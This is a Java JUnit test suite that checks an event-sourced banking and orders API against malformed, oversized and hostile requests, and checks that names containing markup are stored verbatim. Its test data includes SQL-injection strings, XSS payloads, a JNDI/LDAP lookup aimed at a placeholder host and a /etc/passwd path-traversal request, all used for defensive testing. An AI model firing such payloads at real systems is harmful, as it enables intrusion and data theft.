package io.eventbank.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.eventbank.testsupport.HttpClientSupport;
import io.eventbank.testsupport.HttpClientSupport.Response;
import io.eventbank.testsupport.RawHttp;
import io.eventbank.testsupport.ReadSide;
import io.eventbank.testsupport.ServicePairExtension;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input against the packaged command service: malformed and truncated JSON, wrong types, huge and
 * over-precise numbers, unknown and repeated fields, a 1 MB body, bad UUIDs, wrong content types, empty bodies,
 * bytes that are not UTF-8. Every such request is answered 4xx {@code application/problem+json}, never 5xx, never
 * with a stack trace or a class name, and leaves no event. Names carrying SQL and HTML are legal: they are stored
 * and shown back by the query side verbatim, as data. Then hostile reads against the packaged query service: page
 * numbers and sizes out of every bound, filters and ids that are not what they claim, query strings and headers
 * too large or not decodable, wrong methods and paths; each is a 4xx, a problem wherever the service itself answers.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputReliabilityTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> INTERNALS = List.of("Exception", "java.", "javax.", "jakarta.", "org.",
            "com.", "tools.jackson", "io.eventbank", "springframework", "\tat ", "Caused by");
    private static final List<String> LEGAL_NAMES = List.of(
            "Robert'); DROP TABLE domain_event_entry;--",
            "\" OR 1=1 --",
            "<script>alert('x')</script>",
            "${jndi:ldap://example.invalid/a}",
            "Ñoño 名前 😀 \u202Eevil");
    private static final String LEGAL_PRODUCT = "<img src=x onerror=alert(1)>";

    @RegisterExtension
    static final ServicePairExtension pair = ServicePairExtension.pair();
    private static String account;
    private static final Map<Integer, Long> STATUSES = new TreeMap<>();
    private static final Map<Integer, Long> QUERY_STATUSES = new TreeMap<>();
    private static final AtomicLong EVENTS_LEFT_BY_MALFORMED = new AtomicLong();

    /** A request built from raw bytes; {@code chunked} sends it without a Content-Length. */
    record Case(String name, String method, String path, String contentType, byte[] body, boolean chunked,
                int expected, String... headers) {

        @Override
        public String toString() {
            return name;
        }
    }

    /**
     * A read sent as raw bytes, so that any request line can be sent; {@code byTomcat} when Tomcat refuses it before
     * Spring MVC sees it (over a size limit, a path or method it does not accept): the service answers those with a
     * problem all the same.
     */
    record Read(String name, String method, String target, int expected, boolean byTomcat, String... headers) {

        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    static void start() {
        HttpClientSupport commands = pair.command().http();
        account = commands.openAccount("Target Account");
        assertThat(commands.deposit(account, "100").status()).isEqualTo(200);
    }

    static List<Case> malformed() {
        String deposit = "/api/accounts/{account}/deposits";
        String open = "/api/accounts";
        String order = "/api/orders";
        String json = "application/json";
        List<Case> cases = new ArrayList<>();
        // malformed and truncated JSON
        cases.add(post("truncated object", deposit, "{\"amount\":", 400));
        cases.add(post("lone brace", deposit, "{", 400));
        cases.add(post("truncated string", open, "{\"holderName\": \"Kim", 400));
        cases.add(post("form text labelled JSON", deposit, "amount=5", 400));
        cases.add(post("array instead of object", deposit, "[]", 400));
        cases.add(post("JSON null", deposit, "null", 400));
        cases.add(post("two documents", deposit, "{\"amount\":5} {\"amount\":6}", 400));
        cases.add(post("comment", deposit, "{\"amount\":1 /* x */}", 400));
        cases.add(post("NaN", deposit, "{\"amount\":NaN}", 400));
        cases.add(post("single quotes", open, "{'holderName':'x'}", 400));
        cases.add(post("10000 nested arrays", deposit, "[".repeat(10_000), 400));
        // wrong types
        cases.add(post("amount as string", deposit, "{\"amount\":\"10\"}", 400));
        cases.add(post("amount as boolean", deposit, "{\"amount\":true}", 400));
        cases.add(post("amount as array", deposit, "{\"amount\":[1]}", 400));
        cases.add(post("amount as object", deposit, "{\"amount\":{\"value\":1}}", 400));
        cases.add(post("holder name as number", open, "{\"holderName\":5}", 400));
        cases.add(post("holder name as array", open, "{\"holderName\":[\"a\"]}", 400));
        cases.add(post("quantity as string", order, order("\"sku\"", "\"2\"", "1"), 400));
        cases.add(post("fractional quantity", order, order("\"sku\"", "1.5", "1"), 400));
        cases.add(post("items as object", order, "{\"accountId\":\"{account}\",\"items\":{\"productId\":\"x\"}}", 400));
        cases.add(post("account id as number", order, "{\"accountId\":123,\"items\":[]}", 400));
        // huge numbers and too many decimals
        cases.add(post("amount 1e400", deposit, "{\"amount\":1e400}", 400));
        cases.add(post("amount -1e400", deposit, "{\"amount\":-1e400}", 400));
        cases.add(post("amount with a 30-digit integer", deposit, "{\"amount\":123456789012345678901234567890}", 400));
        cases.add(post("amount 1E+2147483647", deposit, "{\"amount\":1E+2147483647}", 400));
        cases.add(post("amount above the maximum", deposit, "{\"amount\":1000000000000.01}", 400));
        cases.add(post("quantity with 30 digits", order, order("\"sku\"", "123456789012345678901234567890", "1"), 400));
        cases.add(post("quantity 1e10", order, order("\"sku\"", "10000000000", "1"), 400));
        cases.add(post("unit price 1e400", order, order("\"sku\"", "1", "1e400"), 400));
        cases.add(post("three decimals", deposit, "{\"amount\":1.001}", 400));
        cases.add(post("a tenth of a cent", deposit, "{\"amount\":0.001}", 400));
        cases.add(post("amount 1e-400", deposit, "{\"amount\":1e-400}", 400));
        cases.add(post("unit price with three decimals", order, order("\"sku\"", "1", "9.999"), 400));
        // negative and zero
        cases.add(post("negative amount", deposit, "{\"amount\":-5}", 400));
        cases.add(post("zero amount", deposit, "{\"amount\":0}", 400));
        cases.add(post("negative zero", deposit, "{\"amount\":-0.00}", 400));
        cases.add(post("negative withdrawal", "/api/accounts/{account}/withdrawals", "{\"amount\":-100}", 400));
        cases.add(post("zero quantity", order, order("\"sku\"", "0", "1"), 400));
        cases.add(post("negative quantity", order, order("\"sku\"", "-1", "1"), 400));
        cases.add(post("zero unit price", order, order("\"sku\"", "1", "0"), 400));
        cases.add(post("negative unit price", order, order("\"sku\"", "1", "-1"), 400));
        // unknown, missing and repeated fields
        cases.add(post("unknown field", deposit, "{\"amount\":5,\"currency\":\"EUR\"}", 400));
        cases.add(post("balance smuggled into an opening", open, "{\"holderName\":\"x\",\"balance\":1000000}", 400));
        cases.add(post("unknown item field", order,
                "{\"accountId\":\"{account}\",\"items\":[{\"productId\":\"x\",\"quantity\":1,\"unitPrice\":1,\"discount\":1}]}",
                400));
        cases.add(post("repeated field", deposit, "{\"amount\":5,\"amount\":6}", 400));
        cases.add(post("missing amount", deposit, "{}", 400));
        cases.add(post("null amount", deposit, "{\"amount\":null}", 400));
        cases.add(post("empty item list", order, "{\"accountId\":\"{account}\",\"items\":[]}", 400));
        // 1 MB bodies
        cases.add(post("1 MB holder name", open, "{\"holderName\":\"" + "x".repeat(1 << 20) + "\"}", 413));
        cases.add(post("1 MB of whitespace around a valid deposit", deposit,
                "{\"amount\":1" + " ".repeat(1 << 20) + "}", 413));
        cases.add(post("1 MB number", deposit, "{\"amount\":" + "1".repeat(1 << 20) + "}", 413));
        cases.add(new Case("1 MB chunked, no Content-Length", "POST", deposit, json,
                ("{\"amount\":1" + " ".repeat(1 << 20) + "}").getBytes(StandardCharsets.UTF_8), true, 413));
        // invalid UUIDs in path and body
        cases.add(post("path id not a UUID", "/api/accounts/not-a-uuid/deposits", "{\"amount\":1}", 400));
        cases.add(post("path id a number", "/api/accounts/123/withdrawals", "{\"amount\":1}", 400));
        cases.add(post("path id with SQL", "/api/orders/'%3B%20DROP%20TABLE%20events%3B--/cancel", null, 400));
        cases.add(post("path id one hex digit short", "/api/accounts/00000000-0000-0000-0000-00000000000/close", null, 400));
        cases.add(post("path id in short groups", "/api/accounts/1-2-3-4-5/deposits", "{\"amount\":1}", 400));
        cases.add(post("body id in Base64", order,
                order("\"sku\"", "1", "1").replace("{account}", "AAAAAAAAAAAAAAAAAAAAAA=="), 400));
        cases.add(post("body id not a UUID", order, order("\"sku\"", "1", "1").replace("{account}", "not-a-uuid"), 400));
        cases.add(post("body id empty", order, order("\"sku\"", "1", "1").replace("{account}", ""), 400));
        cases.add(post("body id with a g", order,
                order("\"sku\"", "1", "1").replace("{account}", "00000000-0000-0000-0000-00000000000g"), 400));
        cases.add(post("unknown account", "/api/accounts/" + UUID.randomUUID() + "/deposits", "{\"amount\":1}", 404));
        // wrong content types and empty bodies
        cases.add(new Case("text/plain", "POST", deposit, "text/plain", bytes("{\"amount\":1}"), false, 415));
        cases.add(new Case("application/xml", "POST", deposit, "application/xml", bytes("<amount>1</amount>"), false, 415));
        cases.add(new Case("form encoded", "POST", deposit, "application/x-www-form-urlencoded", bytes("amount=1"), false,
                415));
        cases.add(new Case("multipart", "POST", open, "multipart/form-data; boundary=b",
                bytes("--b\r\nContent-Disposition: form-data; name=\"holderName\"\r\n\r\nx\r\n--b--\r\n"), false, 415));
        cases.add(new Case("no content type", "POST", deposit, null, bytes("{\"amount\":1}"), false, 415));
        cases.add(new Case("empty body", "POST", deposit, json, new byte[0], false, 400));
        cases.add(new Case("empty opening", "POST", open, json, new byte[0], false, 400));
        // bytes that are not UTF-8, and text that PostgreSQL cannot keep
        cases.add(new Case("invalid UTF-8", "POST", open, json,
                concat("{\"holderName\":\"", new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc3, '('}, "\"}"), false, 400));
        cases.add(new Case("overlong UTF-8 slash", "POST", open, json,
                concat("{\"holderName\":\"a", new byte[] {(byte) 0xc0, (byte) 0xaf}, "\"}"), false, 400));
        cases.add(new Case("raw control byte", "POST", open, json,
                concat("{\"holderName\":\"a", new byte[] {1}, "b\"}"), false, 400));
        cases.add(post("escaped NUL in a name", open, "{\"holderName\":\"a\\u0000b\"}", 400));
        cases.add(post("unpaired surrogate in a name", open, "{\"holderName\":\"a\\ud800b\"}", 400));
        cases.add(post("NUL in a product id", order, order("\"sku\\u0000\"", "1", "1"), 400));
        // headers, methods and paths
        cases.add(new Case("If-Match not a version", "POST", deposit, json, bytes("{\"amount\":1}"), false, 400,
                "If-Match", "\"abc\""));
        cases.add(new Case("If-Match of 20 digits", "POST", deposit, json, bytes("{\"amount\":1}"), false, 400,
                "If-Match", "\"99999999999999999999\""));
        cases.add(new Case("Accept XML only", "POST", deposit, json, bytes("{\"amount\":1}"), false, 406,
                "Accept", "application/xml"));
        cases.add(new Case("GET on a command", "GET", open, null, null, false, 405));
        cases.add(new Case("PUT on a command", "PUT", deposit, json, bytes("{\"amount\":1}"), false, 405));
        cases.add(post("unknown path", "/api/nothing", "{}", 404));
        return cases;
    }

    private static String order(String productId, String quantity, String unitPrice) {
        return "{\"accountId\":\"{account}\",\"items\":[{\"productId\":" + productId + ",\"quantity\":" + quantity
               + ",\"unitPrice\":" + unitPrice + "}]}";
    }

    private static Case post(String name, String path, String body, int expected) {
        return new Case(name, "POST", path, body == null ? null : "application/json", body == null ? null : bytes(body),
                false, expected);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(String head, byte[] middle, String tail) {
        byte[] h = bytes(head);
        byte[] t = bytes(tail);
        byte[] all = new byte[h.length + middle.length + t.length];
        System.arraycopy(h, 0, all, 0, h.length);
        System.arraycopy(middle, 0, all, h.length, middle.length);
        System.arraycopy(t, 0, all, h.length + middle.length, t.length);
        return all;
    }

    @Order(1)
    @ParameterizedTest(name = "{0}")
    @MethodSource("malformed")
    void everyMalformedRequestIsA4xxProblemAndLeavesNoEvent(Case hostile) throws Exception {
        long before = events();
        Response response = pair.command().http().send(request(hostile));
        synchronized (STATUSES) {
            STATUSES.merge(response.status(), 1L, Long::sum);
        }
        long left = events() - before;
        EVENTS_LEFT_BY_MALFORMED.addAndGet(left);

        assertProblem(hostile.name(), hostile.expected(), response.status(), response.header("Content-Type"),
                response.body());
        assertThat(left).as("events left by " + hostile).isZero();
        assertThat(pair.command().isAlive()).isTrue();
    }

    private static HttpRequest request(Case hostile) {
        String base = pair.command().http().baseUrl();
        HttpRequest.BodyPublisher publisher = HttpRequest.BodyPublishers.noBody();
        if (hostile.body() != null) {
            byte[] body = new String(hostile.body(), StandardCharsets.ISO_8859_1).replace("{account}", account)
                    .getBytes(StandardCharsets.ISO_8859_1);
            publisher = hostile.chunked()
                    ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))
                    : HttpRequest.BodyPublishers.ofByteArray(body);
        }
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + hostile.path().replace("{account}", account)))
                .timeout(Duration.ofSeconds(30))
                .method(hostile.method(), publisher);
        if (hostile.contentType() != null) {
            request.header("Content-Type", hostile.contentType());
        }
        for (int i = 0; i < hostile.headers().length; i += 2) {
            request.setHeader(hostile.headers()[i], hostile.headers()[i + 1]);
        }
        return request.build();
    }

    static List<Read> hostileReads() {
        List<Read> reads = new ArrayList<>();
        for (String list : List.of("/api/accounts", "/api/accounts/{account}/transactions", "/api/orders")) {
            for (String query : List.of("page=2147483647", "page=2147483648", "page=9999999999999", "page=100001",
                    "page=-1", "page=-2147483648", "size=0", "size=101", "size=2147483647", "size=-1", "page=abc",
                    "page=", "size=", "page=1.5", "page=1e3", "page=0x10", "page=%2B1", "page=%D9%A1", "size=%00",
                    "page=1&page=2", "sort=unknown", "sort=id,desc", "page=" + "9".repeat(4_000), "page=%zz",
                    "size=%FF%FE", "a=1&".repeat(1_000) + "page=0")) {
                reads.add(new Read(list + "?" + abbreviate(query), "GET", list + "?" + query, 400, false));
            }
        }
        String unknown = UUID.randomUUID().toString();
        // filters
        for (String query : List.of("status=paid", "status=", "status=%20PAID", "status=PAID,SHIPPED",
                "status=PAID&status=SHIPPED", "status=%27%20OR%201%3D1%20--", "status=" + "X".repeat(4_000),
                "accountId=1-2-3-4-5", "accountId=not-a-uuid", "accountId=", "accountId=%27%20OR%20%271%27%3D%271",
                "accountId=AAAAAAAAAAAAAAAAAAAAAA%3D%3D", "accountId=00000000-0000-0000-0000-00000000000g",
                "accountId=" + unknown + "," + unknown)) {
            reads.add(new Read("/api/orders?" + abbreviate(query), "GET", "/api/orders?" + query, 400, false));
        }
        // ids in paths
        for (String path : List.of("/api/accounts/not-a-uuid", "/api/accounts/1-2-3-4-5",
                "/api/accounts/00000000-0000-0000-0000-00000000000/transactions", "/api/orders/123",
                "/api/orders/%27%3B%20DROP%20TABLE%20order_summary%3B--", "/api/accounts/" + "a".repeat(4_000))) {
            reads.add(new Read(abbreviate(path), "GET", path, 400, false));
        }
        reads.add(new Read("unknown account", "GET", "/api/accounts/" + unknown, 404, false));
        reads.add(new Read("unknown account's ledger, page past any", "GET",
                "/api/accounts/" + unknown + "/transactions?page=100000", 404, false));
        reads.add(new Read("unknown order", "GET", "/api/orders/" + unknown, 404, false));
        reads.add(new Read("unknown projection", "POST", "/api/admin/projections/%3Cscript%3E/replay", 404, false));
        // sizes over the server's limits
        reads.add(new Read("100 KB query string", "GET", "/api/accounts?junk=" + "x".repeat(100_000), 400, true));
        reads.add(new Read("100 KB page number", "GET", "/api/orders?page=" + "9".repeat(100_000), 400, true));
        reads.add(new Read("100 KB path", "GET", "/api/accounts/" + "a".repeat(100_000), 400, true));
        reads.add(new Read("100 KB header", "GET", "/api/accounts", 400, true, "X-Junk: " + "x".repeat(100_000)));
        reads.add(new Read("1,000 headers", "GET", "/api/accounts", 400, true,
                IntStream.range(0, 1_000).mapToObj(i -> "X-Junk-" + i + ": x").toArray(String[]::new)));
        // headers, methods and paths
        reads.add(new Read("Accept XML only", "GET", "/api/accounts", 406, false, "Accept: application/xml"));
        reads.add(new Read("Accept CSV only", "GET", "/api/orders", 406, false, "Accept: text/csv"));
        reads.add(new Read("Accept that is no media type, bad page", "GET", "/api/accounts?page=-1", 400, false,
                "Accept: ;;;"));
        reads.add(new Read("Accept XML only, bad page", "GET", "/api/orders?size=0", 400, false,
                "Accept: application/xml"));
        reads.add(new Read("POST on a list", "POST", "/api/accounts", 405, false));
        reads.add(new Read("PUT on an order", "PUT", "/api/orders/" + unknown, 405, false));
        reads.add(new Read("DELETE on an account", "DELETE", "/api/accounts/{account}", 405, false));
        reads.add(new Read("unknown method", "FOO", "/api/accounts", 405, false));
        reads.add(new Read("TRACE", "TRACE", "/api/accounts", 405, true));
        reads.add(new Read("unknown path", "GET", "/api/nothing", 404, false));
        reads.add(new Read("path with an encoded slash", "GET", "/api/accounts/a%2Fb", 400, true));
        reads.add(new Read("path with an encoded NUL", "GET", "/api/accounts/%00", 400, true));
        reads.add(new Read("path climbing out of the root", "GET", "/api/../../etc/passwd", 400, true));
        return reads;
    }

    private static String abbreviate(String text) {
        return text.length() > 60 ? text.substring(0, 60) + "... (" + text.length() + " chars)" : text;
    }

    @Order(2)
    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileReads")
    void everyHostileReadIsA4xxProblem(Read hostile) throws Exception {
        String[] headers = hostile.headers();
        RawHttp.Response response = RawHttp.send(pair.query().port(), hostile.method(),
                hostile.target().replace("{account}", account), headers);
        synchronized (QUERY_STATUSES) {
            QUERY_STATUSES.merge(response.status(), 1L, Long::sum);
        }

        assertProblem(hostile.name(), hostile.expected(), response.status(), response.header("Content-Type"),
                response.body());
        assertThat(response.head()).as("no internals in the headers of " + hostile).doesNotContain(INTERNALS);
        assertThat(pair.query().isAlive()).isTrue();
    }

    private static void assertProblem(String name, int expected, int status, String contentType, String body)
            throws Exception {
        assertThat(status).as(name + ": " + body).isEqualTo(expected);
        assertThat(contentType).as(name).startsWith("application/problem+json");
        JsonNode problem = JSON.readTree(body);
        assertThat(problem.path("status").asInt()).isEqualTo(expected);
        assertThat(problem.path("type").asText()).as(body).startsWith("urn:problem:");
        assertThat(problem.path("title").asText()).isNotBlank();
        assertThat(problem.path("detail").asText()).isNotBlank();
        assertThat(body).as("no internals in " + name).doesNotContain(INTERNALS);
    }

    @Order(3)
    @Test
    void namesCarryingSqlOrMarkupAreStoredAndShownVerbatim() throws Exception {
        HttpClientSupport commands = pair.command().http();
        ReadSide reads = new ReadSide(pair.query().http());
        Map<String, String> accounts = new LinkedHashMap<>();
        for (String name : LEGAL_NAMES) {
            Response opened = commands.post("/api/accounts", JSON.writeValueAsString(Map.of("holderName", name)));
            assertThat(opened.status()).as(name + ": " + opened.body()).isEqualTo(201);
            accounts.put(opened.json().get("accountId").asText(), name);
        }
        String payer = accounts.keySet().iterator().next();
        assertThat(commands.deposit(payer, "50").status()).isEqualTo(200);
        Response placed = commands.post("/api/orders", JSON.writeValueAsString(Map.of("accountId", payer,
                "items", List.of(Map.of("productId", LEGAL_PRODUCT, "quantity", 1, "unitPrice", 5)))));
        assertThat(placed.status()).as(placed.body()).isEqualTo(201);
        String order = placed.json().get("orderId").asText();

        try (Connection eventStore = pair.eventStoreConnection()) {
            for (Map.Entry<String, String> account : accounts.entrySet()) {
                assertThat(stored(eventStore, "SELECT event_data->>'holderName' FROM events "
                        + "WHERE aggregate_id = ?::uuid AND event_type = 'AccountOpened'", account.getKey()))
                        .isEqualTo(account.getValue());
            }
            assertThat(stored(eventStore, "SELECT event_data->'lines'->0->>'productId' FROM events "
                    + "WHERE aggregate_id = ?::uuid AND event_type = 'OrderPlaced'", order)).isEqualTo(LEGAL_PRODUCT);
            assertThat(Databases.number(eventStore, "SELECT count(*) FROM domain_event_entry")).isPositive();
        }

        reads.awaitCaughtUp(Duration.ofSeconds(60));
        for (Map.Entry<String, String> account : accounts.entrySet()) {
            Response shown = pair.query().http().get("/api/accounts/" + account.getKey());
            assertThat(shown.header("Content-Type")).startsWith("application/json");
            assertThat(shown.json().get("holderName").asText()).isEqualTo(account.getValue());
        }
        JsonNode shownOrder = reads.get("/api/orders/" + order);
        assertThat(shownOrder.get("items").get(0).get("productId").asText()).isEqualTo(LEGAL_PRODUCT);
        assertThat(shownOrder.get("customerName").asText()).isEqualTo(accounts.get(payer));
    }

    @Order(4)
    @Test
    void theReadSideStaysConsistentWithTheEvents() throws Exception {
        JsonNode reconciliation = new ReadSide(pair.query().http()).awaitConsistent(Duration.ofSeconds(60));

        Map<String, Object> figures = new LinkedHashMap<>();
        figures.put("malformedCases", malformed().size());
        figures.put("statuses", STATUSES);
        figures.put("serverErrors", STATUSES.entrySet().stream().filter(e -> e.getKey() >= 500)
                .mapToLong(Map.Entry::getValue).sum());
        figures.put("eventsLeftByMalformedRequests", EVENTS_LEFT_BY_MALFORMED.get());
        figures.put("hostileReads", hostileReads().size());
        figures.put("readStatuses", QUERY_STATUSES);
        figures.put("readServerErrors", QUERY_STATUSES.entrySet().stream().filter(e -> e.getKey() >= 500)
                .mapToLong(Map.Entry::getValue).sum());
        figures.put("readsRefusedByTomcat", hostileReads().stream().filter(Read::byTomcat).count());
        figures.put("legalHostileNamesStoredVerbatim", LEGAL_NAMES.size() + 1);
        figures.put("eventsChecked", reconciliation.get("eventsChecked").asLong());
        figures.put("mismatches", reconciliation.get("mismatchCount").asLong());
        Report.write("hostile-input", figures);
    }

    /**
     * The events a request appends itself; what the payment saga appends later, for an order some earlier request
     * placed, would be blamed on whichever request is being checked.
     */
    private static long events() throws SQLException {
        try (Connection connection = pair.eventStoreConnection()) {
            return Databases.number(connection, "SELECT count(*) FROM events WHERE event_type NOT IN "
                    + "('AccountChargedForOrder', 'AccountRefundedForOrder', 'OrderPaid', 'OrderRejected')");
        }
    }

    private static String stored(Connection connection, String sql, String id) throws SQLException {
        try (PreparedStatement statement = connection.prepareStatement(sql)) {
            statement.setString(1, id);
            try (ResultSet rows = statement.executeQuery()) {
                assertThat(rows.next()).as(sql + " for " + id).isTrue();
                return rows.getString(1);
            }
        }
    }
}
